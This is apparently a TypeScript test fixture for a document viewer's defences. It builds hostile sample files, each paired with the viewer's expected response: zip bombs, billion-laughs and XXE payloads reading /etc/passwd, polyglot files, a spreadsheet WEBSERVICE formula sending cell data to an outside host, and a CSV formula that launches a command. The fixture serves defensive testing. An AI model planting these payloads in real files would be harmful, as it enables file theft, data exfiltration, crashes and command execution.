/** Hostile-files: real files that want to harm whoever reads them, with what each reader has to answer. */
import { strToU8, zipSync } from 'fflate';
import type { RefusedReading } from '../../src-renderer/features/viewer/reading/shown-file.ts';
import {
  hugePng,
  linkedPicture,
  loopingPdf,
  manyLaughs,
  paragraph,
  sheetPackage,
  slidesFile,
  wordFile,
  wordPackage,
} from './office-samples.ts';

export interface HostileFile {
  readonly name: string;
  readonly extension: string;
  readonly bytes: Uint8Array;
  /** Why the viewer does not show it; null = it shows what is harmless of it. */
  readonly viewer: RefusedReading | null;
  /** What the server makes of its text. */
  readonly text: 'failed' | 'none' | 'ready';
}

const zeros = new Uint8Array(120 * 1024 * 1024);
const bomb = zipSync({ 'word/document.xml': [zeros, { level: 9 }] });
const outside = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
const linked = linkedPicture('http://outside.invalid/x.png');
const page = '<html><script>alert(1)</script></html>';

/** A PDF and a page of the web at once, and an archive behind. */
const polyglot = new Uint8Array([...strToU8(`%PDF-1.4\n<!--${page}-->\n`), ...slidesFile([])]);

const ofdBomb = zipSync({ 'OFD.xml': [zeros, { level: 9 }] });
const ofdOutside = zipSync({
  'OFD.xml': strToU8(`${outside}<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&x;</ofd:OFD>`),
});

export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const honest = await wordFile(['一段']);
  const of = (
    name: string,
    extension: string,
    bytes: Uint8Array,
    answers: Pick<HostileFile, 'viewer' | 'text'>,
  ): HostileFile => ({ name, extension, bytes, ...answers });
  const harmful = { viewer: 'hostile', text: 'failed' } as const;
  const broken = { viewer: 'damaged', text: 'failed' } as const;
  const contained = { viewer: null, text: 'ready' } as const;
  return [
    of('a zip bomb in Word', 'docx', bomb, harmful),
    of('a zip bomb in a workbook', 'xlsx', bomb, harmful),
    of('a zip bomb in slides', 'pptx', bomb, harmful),
    of(
      'a bomb inside a file',
      'docx',
      wordPackage(paragraph('外面'), { more: { 'word/embeddings/a.zip': bomb } }),
      contained,
    ),
    of('an outside entity', 'docx', wordPackage(paragraph('&x;'), { doctype: outside }), harmful),
    of(
      'many laughs in Word',
      'docx',
      wordPackage(paragraph('&l9;'), { doctype: manyLaughs }),
      harmful,
    ),
    of(
      'many laughs in a sheet',
      'xlsx',
      sheetPackage('<row><c t="str"><v>&l9;</v></c></row>', manyLaughs),
      harmful,
    ),
    of('a page tree that contains itself', 'pdf', loopingPdf, {
      viewer: 'unsupported',
      text: 'ready',
    }),
    of('a torn PDF', 'pdf', strToU8('%PDF-1.7\ngarbage'), {
      viewer: 'unsupported',
      text: 'failed',
    }),
    // Drawn by the viewer of fixed layouts, which the stories of the browser open.
    of('a zip bomb in an OFD', 'ofd', ofdBomb, { viewer: 'unsupported', text: 'failed' }),
    of('an outside entity in an OFD', 'ofd', ofdOutside, { viewer: 'unsupported', text: 'failed' }),
    of('several formats at once, as an OFD', 'ofd', polyglot, {
      viewer: 'unsupported',
      text: 'failed',
    }),
    of('a torn Word file', 'docx', honest.slice(0, honest.length / 2), broken),
    of('several formats at once, as Word', 'docx', polyglot, broken),
    of('several formats at once, as a picture', 'png', polyglot, {
      viewer: 'damaged',
      text: 'none',
    }),
    of('a page as slides', 'pptx', strToU8(page), broken),
    of('a linked picture and template', 'docx', wordPackage(linked.body, { more: linked.more }), {
      ...contained,
    }),
    of('a million empty rows', 'xlsx', sheetPackage('<row/>'.repeat(1_000_000)), {
      viewer: 'empty',
      text: 'ready',
    }),
    of('a picture of two thousand million pixels', 'png', hugePng(50_000, 40_000), {
      viewer: 'pictureTooLarge',
      text: 'none',
    }),
    of(
      'a formula that sends cells away',
      'xlsx',
      sheetPackage(
        '<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://outside.invalid/"&amp;B1)</f><v>甲</v></c></row>',
      ),
      contained,
    ),
    of('commands as text', 'csv', strToU8('=cmd|\'/c calc\'!A1,"<script>x</script>"'), contained),
  ];
}
